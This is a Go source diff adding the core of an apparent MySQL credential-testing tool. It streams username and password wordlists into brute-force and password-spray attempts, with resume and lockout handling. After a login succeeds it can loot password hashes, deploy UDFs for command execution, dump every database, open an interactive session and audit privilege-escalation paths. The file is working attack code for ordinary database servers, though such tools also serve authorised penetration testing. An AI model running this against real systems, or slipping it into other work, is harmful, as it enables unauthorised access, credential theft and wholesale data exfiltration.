@@ -0,0 +1,724 @@
+package core
+
+import (
+    "bufio"
+    "context"
+    "database/sql"
+    "errors"
+    "fmt"
+    "net"
+    "os"
+    "strconv"
+    "strings"
+    "time"
+)
+
+// Errors workers return to stop the testing pipeline early
+var (
+    errFirstSuccess = errors.New("first successful login found")
+    errBlockedHost  = errors.New("host blocked further connections")
+)
+
+// performTesting coordinates the credential testing process
+func (e *Engine) performTesting(ctx context.Context, resume bool, logFile *os.File) {
+    e.verbosePrintln("Starting credential testing process")
+
+    // runCtx stops the wordlist readers and helper goroutines when testing ends for any reason
+    runCtx, stopRun := context.WithCancel(ctx)
+    defer stopRun()
+
+    if resume {
+        e.verbosePrintln("Resume mode is enabled, will attempt to continue from last state")
+    }
+
+    // Special handling for dump mode
+    if e.opts.Dump {
+        e.verbosePrintln("Database dump mode enabled, directly testing credentials and performing dump")
+        result, _ := e.testLogin(ctx, e.opts.SingleUser, e.opts.SinglePass, logFile)
+        if result != "" {
+            fmt.Fprintln(e.out, result)
+            if logFile != nil {
+                logFile.WriteString(result + "\n")
+            }
+            return
+        }
+        return
+    }
+
+    // State is kept per target and wordlists under --session-dir
+    e.useSession()
+    if err := e.makeRunDir(e.opts.SessionDir, 0700); err != nil {
+        e.printError("Error creating session directory: %v", err)
+        os.Exit(1)
+    }
+
+    // Checksum the wordlists so a resume can tell whether they changed, and start after the
+    // pairs the saved session finished
+    e.hashWordlists()
+    var start int64
+    if resume && e.fileExists(e.statePath) {
+        state := e.loadState()
+        if err := e.checkResumeState(state); err != nil {
+            e.printError("Error: %v", err)
+            os.Exit(1)
+        }
+        start = state.Completed
+        e.verbosePrintln("Resuming at credential pair", start)
+    }
+
+    // Prepare usernames. Sources are functions so the inner list of the credential pairs can
+    // be streamed again for every outer item instead of being held in memory.
+    var users func() <-chan string
+    if e.opts.SingleUser != "" {
+        e.verbosePrintln("Using single username:", e.opts.SingleUser)
+        users = func() <-chan string { return singleValueChannel(e.opts.SingleUser) }
+    } else if e.opts.Follow {
+        e.verbosePrintln("Following usernames in file:", e.opts.UserList)
+        users = func() <-chan string { return e.followLinesFromFile(runCtx, e.opts.UserList) }
+    } else {
+        e.verbosePrintln("Loading usernames from file:", e.opts.UserList)
+        users = func() <-chan string { return e.streamLinesFromFile(runCtx, e.opts.UserList) }
+    }
+
+    // Prepare passwords
+    var passwords func() <-chan string
+    if e.opts.SinglePass != "" {
+        e.verbosePrintln("Using single password:", e.opts.SinglePass)
+        passwords = func() <-chan string {
+            if e.passMutator != nil {
+                return e.passMutator.stream(runCtx, singleValueChannel(e.opts.SinglePass))
+            }
+            return singleValueChannel(e.opts.SinglePass)
+        }
+    } else if e.opts.PassList != "" && e.opts.Follow {
+        e.verbosePrintln("Following passwords in file:", e.opts.PassList)
+        passwords = func() <-chan string {
+            if e.passMutator != nil {
+                return e.passMutator.stream(runCtx, e.followLinesFromFile(runCtx, e.opts.PassList))
+            }
+            return e.followLinesFromFile(runCtx, e.opts.PassList)
+        }
+    } else if e.opts.PassList != "" && e.passMutator != nil {
+        e.verbosePrintln("Mutating passwords from file:", e.opts.PassList)
+        passwords = func() <-chan string {
+            return e.passMutator.stream(runCtx, e.streamLinesFromFile(runCtx, e.opts.PassList))
+        }
+    } else if e.opts.PassList != "" {
+        e.verbosePrintln("Loading passwords from file:", e.opts.PassList)
+        passwords = func() <-chan string { return e.streamLinesFromFile(runCtx, e.opts.PassList) }
+    } else {
+        e.verbosePrintln("Testing with no password")
+        passwords = func() <-chan string { return singleValueChannel("") } // Test with no password
+    }
+
+    // Build credential pairs (based on user-first flag)
+    e.verbosePrintln("Building credential pairs with strategy:",
+        map[bool]string{true: "user-first", false: "password-first"}[e.opts.UserFirst])
+    if e.opts.Spray {
+        e.printInfo("Spray mode: one password per round across all users, %d seconds between rounds", e.opts.SprayInterval)
+    }
+    var credChan <-chan Credential
+    if e.opts.Follow {
+        credChan = e.buildFollowedPairs(runCtx, users(), passwords())
+    } else {
+        credChan = e.buildCredentialPairs(runCtx, users, passwords, e.opts.UserFirst, start)
+    }
+
+    // Count the pairs the run will generate from the same sources it reads, so a mutated list
+    // is counted as it will be tested rather than as the file on disk
+    totalTests, userCount, passCount := -1, 0, 0
+    if e.opts.Follow {
+        // Followed lists have no end to count to
+        e.printInfo("Following the wordlists for new lines, Ctrl-C to stop")
+    } else {
+        userCount, passCount = countStream(users()), countStream(passwords())
+        totalTests = userCount * passCount
+    }
+    e.verbosePrintln("Total tests to perform:", totalTests)
+
+    // Keep position, rate, successes, errors and ETA visible in the bar's description
+    stats := e.newRunStats("Testing credentials", totalTests, userCount, passCount)
+    stats.resumeAt(int(start))
+    tracker := newAttemptTracker(start, int64(totalTests), e.opts.Workers)
+    startStatusLine(runCtx, stats)
+    e.startSystemdNotify(runCtx, stats)
+
+    // Keep our connections below the configured share of the server's capacity
+    if e.opts.MaxConnFraction > 0 {
+        e.verbosePrintln("Starting connection monitor with max fraction", e.opts.MaxConnFraction)
+        e.startConnectionMonitor(runCtx)
+    }
+
+    // In spray mode each password is a round, separated by --spray-interval
+    if e.opts.Spray {
+        credChan = e.sprayRounds(runCtx, credChan, stats)
+    }
+    successCount, runErr := e.testPairs(runCtx, credChan, stats, tracker, logFile)
+
+    if ctx.Err() != nil {
+        e.verbosePrintln("Context cancelled, testing stopped")
+        fmt.Fprintln(e.out, e.tr("run.interrupted"))
+    } else {
+        e.verbosePrintln("All processing complete:", runErr)
+        fmt.Fprintln(e.out, e.tr("run.complete"))
+    }
+    e.printInfo("%s", stats.summary())
+    e.verbosePrintf("Found %d successful logins\n", successCount)
+}
+
+// Credential represents a username/password pair and its 1-based position in the wordlists
+type Credential struct {
+    user    string
+    pass    string
+    userIdx int
+    passIdx int
+    seq     int64 // position in the run's sequence of pairs, from 0
+}
+
+// innerCacheLines is how many lines of the inner list buildCredentialPairs keeps in memory to
+// pair with every outer item; longer inner lists are streamed from their source again instead
+const innerCacheLines = 100000
+
+// buildCredentialPairs pairs every user with every password, with users as the outer loop when
+// userFirst is set and passwords otherwise. The outer list is read once. The inner list is kept
+// in memory when it has at most innerCacheLines lines and streamed again for each outer item
+// when it is longer, so rockyou-sized lists are never loaded whole. Pairs are numbered in order
+// and the first skip of them, finished by a resumed session, are not sent.
+func (e *Engine) buildCredentialPairs(ctx context.Context, users, passwords func() <-chan string, userFirst bool, skip int64) <-chan Credential {
+    credChan := make(chan Credential)
+
+    go func() {
+        defer close(credChan)
+        e.verbosePrintln("Building credential pairs")
+
+        outer, newInner, outerName, every := passwords(), users, "passwords", 100
+        if userFirst {
+            outer, newInner, outerName, every = users(), passwords, "users", 1000
+        }
+        var seq int64
+        send := func(o, in string, i, j int) bool {
+            seq++
+            if seq <= skip {
+                return ctx.Err() == nil
+            }
+            cred := Credential{in, o, j, i, seq - 1}
+            if userFirst {
+                cred = Credential{o, in, i, j, seq - 1}
+            }
+            select {
+            case credChan <- cred:
+                return true
+            case <-ctx.Done():
+                return false
+            }
+        }
+
+        var cache []string
+        cached := false  // cache holds the whole inner list
+        innerCount := -1 // length of the inner list once a pass has finished
+        i := 0
+        for o := range outer {
+            i++
+            if i%every == 0 {
+                e.verbosePrintf("\rProcessed %d %s", i, outerName)
+            }
+            // Jump over whole outer items a resumed session finished
+            if innerCount >= 0 && skip-seq >= int64(innerCount) {
+                seq += int64(innerCount)
+                continue
+            }
+            if cached {
+                for j, in := range cache {
+                    if !send(o, in, i, j+1) {
+                        return
+                    }
+                }
+                continue
+            }
+
+            // Stream the inner list, keeping it on the first pass unless it is too long
+            caching := i == 1
+            j := 0
+            for in := range newInner() {
+                j++
+                if caching && len(cache) < innerCacheLines {
+                    cache = append(cache, in)
+                } else if caching {
+                    e.verbosePrintf("\nInner list has more than %d lines, streaming it for each of the %s\n", innerCacheLines, outerName)
+                    caching, cache = false, nil
+                }
+                if !send(o, in, i, j) {
+                    return
+                }
+            }
+            cached, innerCount = caching, j
+        }
+        if e.opts.Verbose && i >= every {
+            fmt.Fprintln(e.out) // Add newline after progress output
+        }
+        e.verbosePrintln("Finished building credential pairs")
+    }()
+
+    return credChan
+}
+
+// countStream returns the number of values ch yields before it is closed
+func countStream(ch <-chan string) int {
+    n := 0
+    for range ch {
+        n++
+    }
+    return n
+}
+
+// singleValueChannel returns a channel that yields a single value
+func singleValueChannel(value string) <-chan string {
+    ch := make(chan string, 1)
+    ch <- value
+    close(ch)
+    return ch
+}
+
+// valuesChannel returns a channel that yields values in order
+func valuesChannel(values []string) <-chan string {
+    ch := make(chan string, len(values))
+    for _, v := range values {
+        ch <- v
+    }
+    close(ch)
+    return ch
+}
+
+// streamLinesFromFile reads lines from a file into a channel until ctx is cancelled
+func (e *Engine) streamLinesFromFile(ctx context.Context, filename string) <-chan string {
+    ch := make(chan string)
+
+    go func() {
+        defer close(ch)
+
+        e.verbosePrintln("Reading lines from", filename)
+        file, err := os.Open(filename)
+        if err != nil {
+            e.printError("Error opening file: %v", err)
+            return
+        }
+        defer file.Close()
+
+        lineCount := 0
+        scanner := bufio.NewScanner(file)
+        for scanner.Scan() {
+            line := strings.TrimSpace(scanner.Text())
+            if line != "" {
+                select {
+                case ch <- line:
+                case <-ctx.Done():
+                    return
+                }
+                lineCount++
+                if e.opts.Verbose && lineCount%1000 == 0 {
+                    fmt.Fprintf(e.out, "\rRead %d lines from %s", lineCount, filename)
+                }
+            }
+        }
+
+        if e.opts.Verbose && lineCount >= 1000 {
+            fmt.Fprintln(e.out) // Add newline after progress output
+        }
+
+        e.verbosePrintln("Finished reading", lineCount, "lines from", filename)
+
+        if err := scanner.Err(); err != nil {
+            e.printError("Error reading file: %v", err)
+        }
+    }()
+
+    return ch
+}
+
+// countLines returns the number of non-empty lines in a file
+func (e *Engine) countLines(filename string) int {
+    e.verbosePrintf("Counting lines in %s... ", filename)
+    file, err := os.Open(filename)
+    if err != nil {
+        e.verbosePrintln("error:", err)
+        return 0
+    }
+    defer file.Close()
+
+    count := 0
+    scanner := bufio.NewScanner(file)
+    for scanner.Scan() {
+        if strings.TrimSpace(scanner.Text()) != "" {
+            count++
+        }
+    }
+    e.verbosePrintln("found", count, "lines")
+    return count
+}
+
+// buildDSN creates the connection string for a login attempt honoring the SSL settings
+func (e *Engine) buildDSN(user, pass, host string, port int) string {
+    // Brackets IPv6 literals, which would otherwise run into the port
+    addr := net.JoinHostPort(host, strconv.Itoa(port))
+    if e.opts.SkipSSL {
+        // Skip SSL entirely by omitting the tls parameter
+        e.verbosePrintln("Using connection string without SSL")
+        return fmt.Sprintf("%s:%s@%s(%s)/?%s%s%s%s", user, pass, dialNetwork, addr, e.timeoutDSNParams(), e.connAttrsDSNParam(), e.authPluginDSNParams(), e.oldAuthDSNParams())
+    }
+
+    tlsOption := "skip-verify" // Default: insecure TLS
+    if e.opts.UseSSL && !e.opts.SkipSSL {
+        tlsOption = "true" // Secure TLS if --use-ssl is set and not overridden
+        e.verbosePrintln("Using secure SSL/TLS connection")
+    } else {
+        e.verbosePrintln("Using skip-verify SSL/TLS connection")
+    }
+    return fmt.Sprintf("%s:%s@%s(%s)/?tls=%s&%s%s%s%s", user, pass, dialNetwork, addr, tlsOption, e.timeoutDSNParams(), e.connAttrsDSNParam(), e.authPluginDSNParams(), e.oldAuthDSNParams())
+}
+
+// configurePool sets the connection limits and lifetimes of a login's pool
+func configurePool(db *sql.DB) {
+    db.SetConnMaxLifetime(time.Minute * 3)
+    db.SetConnMaxIdleTime(time.Second * 30)
+    db.SetMaxOpenConns(10)
+    db.SetMaxIdleConns(10)
+}
+
+// testLogin attempts to connect to MySQL and execute the command if successful. It also reports
+// whether the attempt reached a verdict: a transient error that outlived --retries or a host
+// block leaves the credential untested, and a resumed run must try it again.
+func (e *Engine) testLogin(ctx context.Context, user, pass string, log *os.File) (string, bool) {
+    e.recordAttempt(user)
+    return e.attemptLogin(ctx, user, pass, log)
+}
+
+// attemptLogin is testLogin without counting the attempt, for a credential already counted elsewhere
+func (e *Engine) attemptLogin(ctx context.Context, user, pass string, log *os.File) (string, bool) {
+    if e.opts.Verbose {
+        if pass != "" {
+            fmt.Fprintf(e.out, "Testing username: %s with password: %s... ", user, pass)
+        } else {
+            fmt.Fprintf(e.out, "Testing username: %s (no password)... ", user)
+        }
+    }
+
+    dsn := e.buildDSN(user, pass, e.opts.Host, e.opts.Port)
+
+    e.verbosePrintln("Opening database connection")
+    db, err := e.openDB(dsn)
+    if err != nil {
+        if e.opts.Verbose {
+            e.printError("Failed to open connection: %v", err)
+        }
+        return "", true
+    }
+    defer db.Close()
+
+    configurePool(db)
+    e.verbosePrintln("Connection parameters set, attempting to ping server")
+
+    // Each try (dial, TLS and authentication) gets --attempt-timeout as a whole, and network
+    // errors are retried so they are not mistaken for a wrong password. An attempt the host
+    // refused while --block-pause waits out a block is tried again once the pause is over.
+    var usedSource *string
+    for {
+        err = e.withRetries(ctx, user, func() error {
+            attemptCtx, cancelAttempt := context.WithTimeout(ctx, e.attemptTimeout)
+            defer cancelAttempt()
+            var pingCtx context.Context
+            pingCtx, usedSource = withSourceTracking(attemptCtx)
+            if e.opts.AuthPlugin != "" || e.oldProtocol {
+                return e.pingRaw(pingCtx, user, pass)
+            }
+            return db.PingContext(pingCtx)
+        })
+        if err == nil {
+            break
+        }
+        e.noteLockout(user, *usedSource, err, log)
+        if _, wholeHost := classifyLockout(err); !wholeHost || !e.waitForBlockPause(ctx) {
+            break
+        }
+    }
+    if err == nil || isAuthFailure(err) {
+        e.recordTested(e.opts.Host, e.opts.Port)
+    }
+    if err != nil {
+        if e.opts.Verbose {
+            e.printError("Failed to ping server: %v", err)
+        }
+        if isTransientError(err) && ctx.Err() == nil {
+            e.noteInconclusive(user, pass, err, log)
+        }
+        if mismatch, ok := asPluginMismatch(err); ok {
+            e.notePluginMismatch(user, mismatch, log)
+        }
+        e.emit(Event{Type: EventFailure, User: user, Pass: pass, Err: err})
+        _, wholeHost := classifyLockout(err)
+        return "", !wholeHost && !isTransientError(err) && ctx.Err() == nil
+    }
+    e.verbosePrintln("Successfully connected to the server")
+
+    // Keep nothing but the proof: no session, queries or password past this point
+    if e.opts.ProveOnly {
+        db.Close()
+        return e.proveLogin(user, pass, log), true
+    }
+    if e.oldProtocol {
+        db.Close()
+        return e.legacyLogin(user, pass, log), true
+    }
+
+    // Create a timeout context for database operations
+    dbCtx, cancel := e.withQueryTimeout(ctx)
+    defer cancel()
+
+    // Reopen the pool with the session variables the server accepted, so every post-login
+    // connection (including dump and interactive ones built from dsn) starts with them
+    if params := e.sessionVarParams(dbCtx, db); params != "" {
+        if postDB, err := e.openDB(dsn + params); err == nil {
+            defer postDB.Close()
+            configurePool(postDB)
+            db, dsn = postDB, dsn+params
+        }
+    }
+    backend := e.queryBackend(dbCtx, db)
+    account := e.queryAccountInfo(dbCtx, db)
+    e.recordSuccess(user, pass, backend, account)
+    e.emit(Event{Type: EventSuccess, User: user, Pass: pass, Backend: backend,
+        Plugin: account.Plugin, Restrictions: account.restrictions()})
+
+    if e.opts.Verbose {
+        fmt.Fprintln(e.out) // Newline after "Testing..." message
+    }
+
+    if e.opts.LootHashes {
+        e.lootHashes(dbCtx, db, backend, log)
+    }
+
+    var successMsg string
+    if pass != "" {
+        successMsg = e.successString("%s", e.tr("login.success_pass", user, pass))
+    } else {
+        successMsg = e.successString("%s", e.tr("login.success_nopass", user))
+    }
+    if r := account.restrictions(); len(r) > 0 {
+        successMsg += "\n" + e.warningString("Account restricted: %s", strings.Join(r, ", "))
+    }
+
+    // Install the command execution functions before any dump or interactive session
+    if e.opts.DeployUDF {
+        if udfMsg := e.runDeployUDF(ctx, db, user, log); udfMsg != "" {
+            successMsg += "\n" + udfMsg
+        }
+    }
+
+    // If --dump is set, perform database dump and exit
+    if e.opts.Dump {
+        fmt.Fprintln(e.out, successMsg)
+
+        // Get a persistent connection for dumping with extended capabilities
+        dumpDSN := dsn
+        if !strings.Contains(dumpDSN, "multiStatements=true") {
+            if strings.Contains(dumpDSN, "?") {
+                dumpDSN += "&multiStatements=true"
+            } else {
+                dumpDSN += "?multiStatements=true"
+            }
+        }
+        dumpDSN += backendDSNParams(backend)
+
+        dumpDB, err := e.openDB(dumpDSN)
+        if err != nil {
+            e.printError("Failed to open dump connection: %v", err)
+            return successMsg + "\nFailed to start database dump.", true
+        }
+        defer dumpDB.Close()
+
+        // Pin and warm up the dump connection, with keep-alive and reconnection
+        dumpSession, err := e.openSession(ctx, dumpDB)
+        if err != nil {
+            e.printError("Failed to establish dump connection: %v", err)
+            return successMsg + "\nFailed to start database dump.", true
+        }
+        defer dumpSession.close()
+
+        // Perform the dump
+        dumpResult := e.dumpAllDatabases(ctx, dumpSession, backend)
+        if log != nil {
+            log.WriteString(dumpResult + "\n")
+        }
+
+        // If not in quiet mode, also print the result
+        if !e.opts.QuietDump {
+            return successMsg + "\n" + dumpResult, true
+        }
+
+        return successMsg + "\nDatabase dump completed. Files saved to " + e.opts.DumpDir, true
+    }
+
+    // If --connect is set, enter interactive mode and skip other operations
+    if e.connectMode {
+        fmt.Fprintln(e.out, successMsg)
+
+        // Get a persistent connection for interactive mode
+        persistentDSN := dsn
+        if !strings.Contains(persistentDSN, "multiStatements=true") {
+            // Add multiStatements capability for interactive mode
+            if strings.Contains(persistentDSN, "?") {
+                persistentDSN += "&multiStatements=true"
+            } else {
+                persistentDSN += "?multiStatements=true"
+            }
+        }
+
+        interactiveDB, err := e.openDB(persistentDSN)
+        if err != nil {
+            e.printError("Failed to open interactive connection: %v", err)
+            return successMsg + "\nFailed to start interactive mode.", true
+        }
+        defer interactiveDB.Close()
+
+        // Pin and warm up the interactive connection, with keep-alive and reconnection
+        interactiveSession, err := e.openSession(ctx, interactiveDB)
+        if err != nil {
+            e.printError("Failed to establish interactive connection: %v", err)
+            return successMsg + "\nFailed to start interactive mode.", true
+        }
+        defer interactiveSession.close()
+
+        e.enterInteractiveMode(ctx, interactiveSession, user)
+        return "", true // No further output needed after interactive mode
+    }
+
+    // Enumeration if -Enum flag is set
+    if e.opts.Enum {
+        e.verbosePrintln("Starting database enumeration")
+        enumResult := e.enumerateMySQL(dbCtx, db)
+        successMsg += "\n" + enumResult
+        if e.opts.EnumOutputFile != "" {
+            e.verbosePrintln("Saving enumeration results to:", e.opts.EnumOutputFile)
+            file, err := os.Create(e.opts.EnumOutputFile)
+            if err != nil {
+                e.printError("Error creating enumeration output file: %v", err)
+            } else {
+                defer file.Close()
+                file.WriteString(enumResult)
+                e.verbosePrintln("Enumeration results saved successfully")
+            }
+        }
+    }
+
+    // Prioritized escalation paths, unlike the flat -Enum listing
+    if e.opts.PrivescCheck {
+        successMsg += "\n" + e.runPrivescAudit(ctx, db, user, backend, log)
+    }
+
+    // A configured verification step replaces the default -e command, so accounts that can log in
+    // but not SHOW DATABASES don't look like partial failures
+    if e.opts.VerifyQuery != "" {
+        if verifyMsg := e.runVerifyQuery(ctx, db, user); verifyMsg != "" {
+            successMsg += "\n" + verifyMsg
+        }
+        if e.opts.ExecCmd == "SHOW DATABASES;" {
+            return successMsg, true
+        }
+    }
+
+    // Check the command against the statement policy. Nobody can answer a prompt for -e, so
+    // prompt mode blocks it like block mode.
+    switch verdict := e.checkStatement(e.opts.ExecCmd); verdict.action {
+    case "":
+    case policyWarn:
+        e.printWarning("%s", e.tr("cmd.policy_warn", e.opts.ExecCmd, verdict.reason))
+    default:
+        warningMsg := e.warningString("%s", e.tr("cmd.policy_blocked", e.opts.ExecCmd, verdict.reason))
+        return successMsg + "\n" + warningMsg, true
+    }
+
+    // Execute the command if it's safe or allowed
+    e.verbosePrintln("Executing SQL command:", e.opts.ExecCmd)
+    e.printInfo("%s", e.tr("cmd.executing", e.opts.ExecCmd))
+
+    // Execute with timeout context
+    execCtx, execCancel := e.withQueryTimeout(ctx)
+    defer execCancel()
+
+    // With --exec-params the values travel separately from the statement and are never
+    // spliced into the SQL text
+    stmt, args := e.opts.ExecCmd, []interface{}(nil)
+    if e.opts.ExecParams {
+        stmt, args = strings.TrimSuffix(stmt, ";"), e.execArgs()
+        e.verbosePrintf("Binding %d parameter(s) in a prepared statement\n", len(args))
+    }
+
+    // Handle queries vs. non-query commands
+    if isQueryCommand(e.opts.ExecCmd) {
+        e.verbosePrintln("Detected query command, using Query method")
+        rows, err := db.QueryContext(execCtx, stmt, args...)
+        if err != nil {
+            errorMsg := e.errorString("%s", e.tr("cmd.query_error", err))
+            e.verbosePrintln("Query execution failed:", err)
+            e.emitRecord("command", map[string]interface{}{"user": user, "command": e.opts.ExecCmd, "error": err.Error()})
+            return successMsg + "\n" + errorMsg, true
+        }
+        defer rows.Close()
+
+        // Format and display query results
+        result := e.formatQueryResults(rows, nil)
+        e.emitRecord("command", map[string]interface{}{"user": user, "command": e.opts.ExecCmd, "output": result})
+        return successMsg + "\n" + result, true
+    } else {
+        e.verbosePrintln("Detected non-query command, using Exec method")
+        _, err = db.ExecContext(execCtx, stmt, args...)
+        if err != nil {
+            errorMsg := e.errorString("%s", e.tr("cmd.exec_error", err))
+            e.verbosePrintln("Command execution failed:", err)
+            e.emitRecord("command", map[string]interface{}{"user": user, "command": e.opts.ExecCmd, "error": err.Error()})
+            return successMsg + "\n" + errorMsg, true
+        }
+        e.emitRecord("command", map[string]interface{}{"user": user, "command": e.opts.ExecCmd, "output": e.tr("cmd.success")})
+    }
+
+    e.verbosePrintln("Command executed successfully")
+    return successMsg + "\n" + e.tr("cmd.success"), true
+}
+
+// runVerifyQuery runs --verify-query after a successful login and describes the outcome.
+// "none" skips verification entirely.
+func (e *Engine) runVerifyQuery(ctx context.Context, db *sql.DB, user string) string {
+    if strings.EqualFold(e.opts.VerifyQuery, "none") {
+        return ""
+    }
+    switch verdict := e.checkStatement(e.opts.VerifyQuery); verdict.action {
+    case "":
+    case policyWarn:
+        e.printWarning("%s", e.tr("cmd.policy_warn", e.opts.VerifyQuery, verdict.reason))
+    default:
+        return e.warningString("%s", e.tr("cmd.policy_blocked", e.opts.VerifyQuery, verdict.reason))
+    }
+
+    e.verbosePrintln("Running verification query:", e.opts.VerifyQuery)
+    verifyCtx, verifyCancel := e.withQueryTimeout(ctx)
+    defer verifyCancel()
+
+    rows, err := db.QueryContext(verifyCtx, e.opts.VerifyQuery)
+    if err == nil {
+        // Drain the result set so errors partway through still count as failures
+        for rows.Next() {
+        }
+        err = rows.Err()
+        rows.Close()
+    }
+    if err != nil {
+        e.emitRecord("verify", map[string]interface{}{"user": user, "query": e.opts.VerifyQuery, "error": err.Error()})
+        return e.warningString("Verification query failed: %v", err)
+    }
+    e.emitRecord("verify", map[string]interface{}{"user": user, "query": e.opts.VerifyQuery, "verified": true})
+    return e.successString("Verified with: %s", e.opts.VerifyQuery)
+}
+
+// commandMatches checks if a command matches a pattern (case-insensitive)
+func commandMatches(cmd, pattern string) bool {
+    return strings.HasPrefix(strings.ToUpper(strings.TrimSpace(cmd)), pattern)
+}